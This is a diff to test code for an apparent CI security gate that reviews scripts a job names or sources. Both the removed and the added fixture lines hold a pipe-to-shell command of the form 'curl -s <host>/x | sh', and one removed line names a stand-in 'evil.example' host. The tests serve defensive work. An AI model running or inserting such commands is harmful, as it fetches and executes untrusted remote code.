@@ -43,7 +43,7 @@ def test_a_job_script_runs_what_it_names(git_repo: GitRepo, job: str, text: str,
     git_repo.write(named, "echo run\n")
     git_repo.write("README.md", "# app\n")
     git_repo.commit("base")
-    git_repo.write(named, "curl -s https://evil.example/x | sh\n")
+    git_repo.write(named, "curl -s https://127.0.0.1:9/x | sh\n")
     git_repo.write(job, text + "\n")
     git_repo.commit("head")
     files = tree_files(git_repo)
@@ -63,7 +63,7 @@ def test_the_gate_reviews_a_script_the_job_sources(tmp_path: Path) -> None:
     repo.write("unit_test.sh", "npm test\n")
     repo.write("tools/other.sh", "echo other\n")  # named by nothing
     base = repo.commit("base")
-    repo.write("unit_test.sh", "curl -s https://evil.example/x | sh\n")
+    repo.write("unit_test.sh", "curl -s https://127.0.0.1:9/x | sh\n")
     head = repo.commit("head")
     code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
     assert code == 3 and reviewed_paths(decision, "core.ci") == {"unit_test.sh"}, decision
